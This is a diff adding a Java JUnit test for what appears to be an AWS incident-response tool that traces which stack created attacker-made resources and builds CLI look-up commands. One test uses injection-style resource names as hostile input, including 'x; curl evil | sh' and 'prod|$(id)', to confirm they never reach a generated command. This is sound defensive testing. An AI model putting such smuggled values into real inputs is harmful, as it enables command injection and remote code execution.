@@ -1,0 +1,151 @@
+package org.eksrunbook.asset;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.nio.file.Path;
+import java.time.Instant;
+import java.util.List;
+import java.util.Map;
+import org.eksrunbook.evidence.Actor;
+import org.eksrunbook.evidence.Ledger;
+import org.eksrunbook.incident.IncidentId;
+import org.jspecify.annotations.Nullable;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/** A resource says what made it, and what made it how many it made and how to look up the rest. */
+class BelongingsTest {
+
+    private static final String STACK = "arn:aws:cloudformation:" + CaseContext.REGION + ":" + CaseContext.ACCOUNT
+            + ":stack/perf/0a1b2c3d-0000-1111-2222-333344445555";
+    private static final MadeBy BY_STACK = by("AWS::CloudFormation::Stack", "perf", STACK);
+
+    @TempDir
+    Path folder;
+
+    private CaseContext context;
+    private Inventory inventory;
+    private final IncidentId id = IncidentId.of("INC-1");
+
+    @BeforeEach
+    void open() {
+        context = new CaseContext(Databases.h2(), folder);
+        inventory = context.get(Inventory.class);
+        context.open("INC-1");
+    }
+
+    @AfterEach
+    void close() {
+        context.close();
+    }
+
+    private static MadeBy by(String type, String name, @Nullable String arn) {
+        return new MadeBy(
+                type, name, arn, CaseContext.ACCOUNT, CaseContext.REGION, "e1", "id", "the stack perf: it says so", null);
+    }
+
+    private static Observation call(String event, int minute, Change change, ResourceRef thing, MadeBy... makers) {
+        Instant time = CaseContext.COMPROMISED.plusSeconds(60L * minute);
+        String noun = thing.type().substring(thing.type().lastIndexOf(':') + 1);
+        String action = (change == Change.CREATED ? "Create" : "Update") + noun;
+        return new Observation(event, time, action, List.of(change), true, List.of(thing), "attacker", List.of(makers));
+    }
+
+    private static ResourceRef thing(String type, String name, @Nullable String arn) {
+        return new ResourceRef(type, name, arn, CaseContext.ACCOUNT, CaseContext.REGION);
+    }
+
+    private static ResourceRef function(String name) {
+        return thing("AWS::Lambda::Function", name, null);
+    }
+
+    private void build(Observation... calls) {
+        inventory.build(id, "round-1", List.of(calls));
+    }
+
+    private InventoryRow row(String name) {
+        return inventory.rows(id).stream()
+                .filter(one -> one.id().equals(name))
+                .findFirst()
+                .orElseThrow();
+    }
+
+    @Test
+    void whatAStackMadeNamesItAndTheStackSaysHowMuchItMadeAndHowToLookUpTheRest() {
+        build(
+                call("e1", 1, Change.CREATED, thing("AWS::CloudFormation::Stack", "perf", STACK)),
+                call("e2", 2, Change.CREATED, function("collector"), BY_STACK),
+                call("e3", 3, Change.MODIFIED, function("old"), BY_STACK));
+        InventoryRow stack = row("perf");
+        assertThat(row("collector").madeBy()).singleElement().satisfies(maker -> {
+            assertThat(maker.resource()).isEqualTo(stack.key());
+            assertThat(maker.why()).isEqualTo("the stack perf: it says so");
+        });
+        assertThat(row("old").madeBy()).as("was there, and was changed").isEmpty();
+        assertThat(stack.makes())
+                .isEqualTo(new Making(
+                        1,
+                        "aws cloudformation list-stack-resources --stack-name " + STACK + " --region "
+                                + CaseContext.REGION));
+        assertThat(row("collector").makes()).isNull();
+    }
+
+    @Test
+    void rowsMadeAgainFromTheLedgerSayTheSame() {
+        build(
+                call("e1", 1, Change.MODIFIED, thing("AWS::CloudFormation::Stack", "perf", null)),
+                call("e2", 2, Change.CREATED, function("collector"), BY_STACK));
+        List<InventoryRow> before = inventory.rows(id);
+        inventory.rebuild(id);
+        assertThat(inventory.rows(id)).isEqualTo(before);
+        assertThat(row("collector").madeBy()).hasSize(1);
+    }
+
+    @Test
+    void whatAPersonTakesOutIsNotMadeByAnything() {
+        build(
+                call("e1", 1, Change.CREATED, thing("AWS::CloudFormation::Stack", "perf", STACK)),
+                call("e2", 2, Change.CREATED, function("collector"), BY_STACK));
+        context.get(Ledger.class)
+                .append(
+                        id,
+                        "findings.reviewed",
+                        Actor.user("rita"),
+                        Map.of("overruled", List.of(Map.of("eventId", "e2", "to", "none"))));
+        assertThat(row("perf").makes()).isNotNull().extracting(Making::listed).isEqualTo(0);
+        assertThat(row("perf").makes().words()).startsWith("Nothing that it made is in the logs that were read.");
+    }
+
+    @Test
+    void eachMakerHasItsLookUp() {
+        assertThat(lookUp("AWS::CloudFormation::StackSet", "baseline"))
+                .startsWith("aws cloudformation list-stack-instances --stack-set-name baseline --region ");
+        assertThat(lookUp("AWS::FMS::Policy", "0a1b2c3d-1111-2222-3333-444455556666"))
+                .startsWith("aws fms list-compliance-status --policy-id 0a1b2c3d-1111-2222-3333-444455556666");
+        assertThat(lookUp("AWS::AutoScaling::AutoScalingGroup", "miners"))
+                .startsWith(
+                        "aws autoscaling describe-scaling-activities --include-deleted-groups --auto-scaling-group-name miners");
+        assertThat(lookUp("AWS::EKS::Nodegroup", "prod|extra"))
+                .startsWith("aws eks describe-nodegroup --cluster-name prod --nodegroup-name extra");
+        assertThat(lookUp("AWS::ElasticBeanstalk::Environment", "shop")).contains("--environment-name shop");
+        assertThat(lookUp("AWS::ElasticBeanstalk::Environment", "e-abcdefghij"))
+                .contains("--environment-id e-abcdefghij");
+    }
+
+    @Test
+    void aNameThatTheAttackerMadeUpToBeRunIsInNoCommand() {
+        assertThat(lookUp("AWS::AutoScaling::AutoScalingGroup", "x; curl evil | sh")).isNull();
+        assertThat(lookUp("AWS::AutoScaling::AutoScalingGroup", "--profile=other")).isNull();
+        assertThat(lookUp("AWS::EKS::Nodegroup", "prod|$(id)")).isNull();
+    }
+
+    private @Nullable String lookUp(String type, String name) {
+        inventory.build(
+                id, "round " + type + name, List.of(call("e1", 1, Change.CREATED, thing(type, name, null))));
+        Making makes = row(name).makes();
+        assertThat(makes).isNotNull();
+        return makes.lookUp();
+    }
+}
